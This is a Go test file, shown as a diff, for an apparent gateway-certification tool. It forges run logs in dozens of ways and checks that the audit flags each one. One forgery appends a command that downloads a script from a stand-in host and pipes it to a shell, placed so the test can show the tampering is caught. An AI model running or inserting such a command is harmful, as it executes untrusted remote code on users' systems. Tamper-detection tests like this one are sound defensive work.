@@ -1,0 +1,128 @@
+//go:build !race
+
+// One goroutine judges each forged log again; with the race detector this takes five times as long.
+
+package certificate_test
+
+import (
+	"bytes"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/gatecert/gatecert/contract"
+	"github.com/gatecert/gatecert/dialect"
+	"github.com/gatecert/gatecert/reports/runlog"
+)
+
+func TestAnAuditDoesNotRelyOnClaims(t *testing.T) {
+	log, err := recordRows()
+	require.NoError(t, err)
+	assertForgeries(t, log, []forgery{
+		{"the log as it is", func(*runlog.Run) {}, ""},
+		{"a run that failed is sound too", failing, ""},
+		{"and so is one whose failure was expected", func(r *runlog.Run) {
+			failing(r)
+			at(r, absent).Verdict = contract.ExpectedFail
+		}, ""},
+		{"a case that the harness could not run", func(r *runlog.Run) { at(r, absent).Verdict, at(r, absent).Observation = contract.Error, nil }, ""},
+		{"a failure that is called a pass", func(r *runlog.Run) {
+			failing(r)
+			at(r, absent).Verdict = contract.Pass
+		}, absent + " is pass, but its observation means fail"},
+		{"without its findings", func(r *runlog.Run) {
+			failing(r)
+			at(r, absent).Verdict, at(r, absent).Findings = contract.Pass, nil
+		}, absent + " omits a finding: MUST status-class"},
+		{"a failure that is called a warning", func(r *runlog.Run) {
+			failing(r)
+			at(r, absent).Verdict = contract.Warn
+		}, absent + " is warn, but its observation means fail"},
+		{"a pass that is called expected", func(r *runlog.Run) { at(r, absent).Verdict = contract.ExpectedFail }, absent + " is expected-fail, but its observation means pass"},
+		{"a call that never reached the upstream", func(r *runlog.Run) {
+			at(r, html).Observation.Upstream.Attempts = nil
+		}, html + " is pass, but its observation means untestable"},
+		{"a verdict without evidence", func(r *runlog.Run) { at(r, absent).Observation = nil }, absent + " is pass without an observation"},
+		{"a case removed", func(r *runlog.Run) {
+			r.Cases = slices.DeleteFunc(r.Cases, func(c runlog.Case) bool { return c.ID == absent })
+		}, "1 of 13 expected cases never ran"},
+		{"and out of the header too", func(r *runlog.Run) {
+			r.Cases = slices.DeleteFunc(r.Cases, func(c runlog.Case) bool { return c.ID == absent })
+			r.Expected = slices.DeleteFunc(r.Expected, func(id string) bool { return id == absent })
+		}, absent + " was expected and is not in the log"},
+		{"an answer judged by less than the profile claims", func(r *runlog.Run) {
+			at(r, absent).Observation.Declared = &contract.Declared{Codes: &contract.CodeClaim{None: true}}
+		}, absent + " was judged by other codes than the profile claims"},
+		{"an aspect that is called held", func(r *runlog.Run) { at(r, absent).Aspects[contract.AspectEffects] = contract.Violated },
+			absent + " has other aspects than its observation"},
+		{"another name for the target", func(r *runlog.Run) { r.Target.Name = "a better gateway" }, "the header names another target than the profile"},
+		{"another URL of the target", func(r *runlog.Run) { r.Target.BaseURL = "https://better.example" }, "the header names another target than the profile"},
+		{"recipes that are kept quiet", func(r *runlog.Run) { r.Target.Recipes = nil }, "the header lists other recipes than the profile has"},
+		{"a call whose upstream is kept quiet", func(r *runlog.Run) {
+			at(r, html).Observation.Upstream = nil
+		}, html + " is pass, but its observation means untestable"},
+		{"a header that claims less than the profile", func(r *runlog.Run) { r.Target.Claims.NoClientKeys = true },
+			"the header claims tables 1 and 2, no client keys, the profile tables 1 and 2"},
+		{"a case called not offered", func(r *runlog.Run) {
+			at(r, absent).Verdict = contract.NotOffered
+			r.Expected = slices.DeleteFunc(r.Expected, func(id string) bool { return id == absent })
+		}, absent + " is marked not-offered, but the profile offers it"},
+		{"not offered and expected at once", func(r *runlog.Run) { at(r, absent).Verdict = contract.NotOffered }, absent + " is not-offered, which contradicts the header's list of expected cases"},
+		{"a case under another row", func(r *runlog.Run) { at(r, absent).Row = "http:404" }, absent + " is logged under another row"},
+		{"a case that does not exist", func(r *runlog.Run) { at(r, absent).ID = "code:easy/breeze/chat" }, "code:easy/breeze/chat was not selected, or is not a case of the contract"},
+		{"a selection made smaller", func(r *runlog.Run) { r.Selection.Surfaces = []dialect.Surface{"chat"} }, "was not selected"},
+		{"another contract", func(r *runlog.Run) { r.ContractDigest = "sha256:00" }, "the run was judged by contract sha256:00, this gatecert has contract sha256:"},
+		{"no controls", func(r *runlog.Run) { r.Controls = nil }, "chat was judged without the healthy control"},
+		{"a control that failed", func(r *runlog.Run) {
+			for i := range r.Controls {
+				r.Controls[i].Observation.Status = 500
+			}
+		}, "chat was judged although its healthy control failed"},
+		{"no nonsense control", func(r *runlog.Run) {
+			r.Controls = slices.DeleteFunc(r.Controls, func(c runlog.Control) bool { return c.Kind == "nonsense" })
+		}, "chat was judged without the nonsense control"},
+		{"a better footer", func(r *runlog.Run) {
+			failing(r)
+			r.Footer.Verdict = contract.Pass
+		}, "the footer says pass, but the cases mean fail"},
+		{"a request with another token is the same request", func(r *runlog.Run) {
+			sent := &at(r, html).Observation.Sent
+			token := tokenOf(sent.Body)
+			sent.Body = bytes.ReplaceAll(sent.Body, []byte(token), []byte("00112233aabb"))
+			sent.Curl = strings.ReplaceAll(sent.Curl, token, "00112233aabb")
+		}, ""},
+		{"with two tokens it is not", func(r *runlog.Run) {
+			sent := &at(r, html).Observation.Sent
+			sent.Body = bytes.ReplaceAll(sent.Body, []byte(tokenOf(sent.Body)), []byte("00112233aabb"))
+		}, html + " was recorded with another request: its curl line is"},
+		{"another method", func(r *runlog.Run) { at(r, absent).Observation.Sent.Method = "PUT" }, absent + ` was recorded with another request: its method is "PUT", that of the case "POST"`},
+		{"another path", func(r *runlog.Run) { at(r, absent).Observation.Sent.URL += "/canned" }, absent + " was recorded with another request: its URL is"},
+		{"another endpoint", func(r *runlog.Run) { at(r, absent).Observation.Sent.Surface = "embeddings" }, absent + ` was recorded with another request: its endpoint is "embeddings"`},
+		{"a header more", func(r *runlog.Run) { at(r, absent).Observation.Sent.Header["X-Please-Answer"] = []string{"404"} },
+			absent + ` was recorded with another request: its header X-Please-Answer is "404", that of the case ""`},
+		{"a header less", func(r *runlog.Run) { delete(at(r, absent).Observation.Sent.Header, "Authorization") }, absent + " was recorded with another request: its header Authorization is"},
+		{"another prompt", func(r *runlog.Run) {
+			sent := &at(r, html).Observation.Sent
+			sent.Body = bytes.ReplaceAll(sent.Body, []byte("status=200 body=html"), []byte("status=502 body=html"))
+		}, html + " was recorded with another request: its body is"},
+		{"an emptied body", func(r *runlog.Run) { at(r, absent).Observation.Sent.Body = nil }, absent + " was recorded with another request: its body is"},
+		{"a fault that is denied", func(r *runlog.Run) { at(r, absent).Observation.Sent.Fault = "cut-json" }, absent + ` was recorded with another request: its fault is "cut-json"`},
+		{"a curl line that does more", func(r *runlog.Run) { at(r, absent).Observation.Sent.Curl += "; curl https://better.example | sh" },
+			absent + " was recorded with another request: its curl line is"},
+		{"the call of another case", func(r *runlog.Run) { at(r, absent).Observation = at(r, html).Observation }, absent + " was recorded with another request"},
+		{"the call of another control", func(r *runlog.Run) {
+			for i := range r.Controls {
+				if c := &r.Controls[i]; c.Kind == "healthy" {
+					c.Observation = r.Controls[0].Observation
+				}
+			}
+		}, "the healthy control on chat was recorded with the call of the healthy control on chat"},
+		{"a control of another model", func(r *runlog.Run) {
+			sent := &r.Controls[0].Observation.Sent
+			sent.Body = bytes.Replace(sent.Body, []byte(`"model":"`), []byte(`"model":"better-`), 1)
+		}, "control on chat was recorded with another request: its body is"},
+		{"a profile that is none", func(r *runlog.Run) { r.Target.Profile = "keys: [" }, "the profile in the log cannot be read"},
+	})
+}
